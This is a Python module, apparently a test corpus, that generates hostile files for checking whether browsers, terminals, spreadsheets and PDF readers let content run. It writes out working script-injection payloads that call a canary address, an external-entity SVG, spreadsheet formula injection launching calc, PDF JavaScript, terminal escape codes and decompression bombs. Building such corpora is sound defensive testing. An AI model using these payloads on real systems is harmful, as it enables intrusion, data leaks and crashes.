"""Files that would do something if a browser, a terminal, a spreadsheet or a reader of PDFs let them; all made here.

`hostile_files(canary)` returns them by path: each would ask the address `canary` for something, or set the title of the
page that shows it to OWNED.
"""

import gzip
import io
import struct
import zipfile
import zlib

OWNED = "OWNED"
MANY_ZEROS = 50_000_000


def pdf(*lines: str, catalogue: str = "", page: str = "", pages: int = 1) -> bytes:
    """A PDF of these lines; `catalogue` and `page` are further entries of those dictionaries."""
    shown = "".join(f"({line}) Tj 0 -20 Td " for line in lines)
    content = f"BT /F1 14 Tf 72 700 Td {shown}ET".encode()
    kids = " ".join(f"{5 + number} 0 R" for number in range(pages))
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>".encode(),
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    leaf = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R"
    objects += [f"{leaf} /Resources << /Font << /F1 4 0 R >> >> {page} >>".encode()] * pages
    data, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return bytes(data + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))


def png(width: int, height: int, packed: bytes) -> bytes:
    """A PNG of one bit for each pixel that says it is so large, whatever its data unpack to."""
    chunks = (
        (b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)),
        (b"IDAT", packed),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def hostile_files(canary: str) -> dict[str, bytes]:
    """The corpus, by path."""
    script = f"document.title='{OWNED}';top.document.title='{OWNED}';fetch('{canary}/script')"
    page = f"""<!doctype html><html><head><base href="{canary}/base/"><title>{OWNED}</title>
<meta http-equiv="refresh" content="0;url={canary}/refresh"><link rel="stylesheet" href="{canary}/style">
<link rel="icon" href="{canary}/icon"><link rel="preconnect" href="{canary}">
<link rel="prefetch" href="{canary}/prefetch">
<style>@import url("{canary}/import"); body {{ background: url("{canary}/background") }}
@font-face {{ font-family: f; src: url("{canary}/font") }} p {{ font-family: f }}</style>
<script>{script}</script></head>
<body onload="{script}"><p>Hostile page</p><img src="{canary}/image" onerror="{script}"><img src=x onerror="{script}">
<form action="{canary}/form" id="f"><input name="a" autofocus onfocus="{script}"><button>Send</button></form>
<iframe src="{canary}/frame"></iframe><iframe srcdoc="&lt;link rel=stylesheet href='{canary}/srcdoc'>"></iframe>
<object data="{canary}/object"></object><embed src="{canary}/embed"><video src="{canary}/video" autoplay></video>
<svg><use href="{canary}/use#a"/><image href="{canary}/svg-image"/></svg><script src="{canary}/external"></script>
<a href="{canary}/link" target="_top">away</a><a href="{canary}/stay">stay</a>
<a href="javascript:{script}">run</a></body></html>"""
    drawing = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"
onload="{script}"><script>{script}</script><style>@import url("{canary}/svg-import");</style>
<rect width="9" height="9"/><image href="{canary}/image" width="9" height="9"/>
<use xlink:href="{canary}/use#a"/><foreignObject width="9" height="9">
<iframe xmlns="http://www.w3.org/1999/xhtml" src="{canary}/foreign"></iframe></foreignObject>
<a href="javascript:{script}"><text>x</text></a></svg>"""
    entities = f'<!DOCTYPE svg [<!ENTITY e SYSTEM "{canary}/entity">]><svg xmlns="http://www.w3.org/2000/svg">&e;</svg>'
    cells = f"""name,people,<script>{script}</script>
"=HYPERLINK(""{canary}/cell"",""a"")",1200,x\n=cmd|' /C calc'!A0,10,"<img src='{canary}/img' onerror=""{script}"">"
\x1b]0;{OWNED}\x07\x1b[2J,20,\u202eabc\u200b\n+1+1,30,@SUM(1)\n-2,40,"</td></table><script>{script}</script>"
"""
    notes = f"""# Notes\n\n<script>{script}</script><img src="{canary}/md" onerror="{script}">\n
[run](javascript:{script}) ![picture]({canary}/picture) <iframe src="{canary}/frame"></iframe>\n"""
    action = f"<< /S /JavaScript /JS (app.launchURL\\('{canary}/pdf'\\);) >>"
    link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI ({canary}/uri) >> >>"
    bomb = zlib.compressobj(9)
    packed = b"".join(bomb.compress(b"\0" * 1_000_000) for _ in range(MANY_ZEROS // 1_000_000)) + bomb.flush()
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("zeros", b"\0" * 10_000_000)
    deep = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99999999 99999999] >>"
    return {
        "output/page.html": page.encode(),
        "output/page16.html": page.encode("utf-16"),
        "output/drawing.svg": drawing.encode(),
        "output/entities.svg": entities.encode(),
        "output/cells.csv": cells.encode(),
        "output/notes.md": notes.encode(),
        "output/log.log": f"\x1b]0;{OWNED}\x07\x1b[2J<script>{script}</script>\n".encode(),
        "output/data.json": f'{{"a": "</script><script>{script}</script>"}}'.encode(),
        "output/page.png": page.encode(),
        "output/bomb.png": png(20_000, 20_000, packed),
        "output/drawing.jpg": drawing.encode(),
        "output/script.pdf": pdf("Hostile", catalogue=f"/OpenAction {action}", page=f"/Annots [{link}]"),
        "output/huge.pdf": pdf("Huge").replace(b"[0 0 612 792]", b"[0 0 9e9 9e9]"),
        "output/loop.pdf": pdf("Loop").replace(b"/Kids [5 0 R]", b"/Kids [2 0 R]"),
        "output/page.pdf": page.encode() + deep,
        "output/bomb.csv": gzip.compress(b"\0" * 10_000_000),
        "output/bomb.zip": archive.getvalue(),
    }
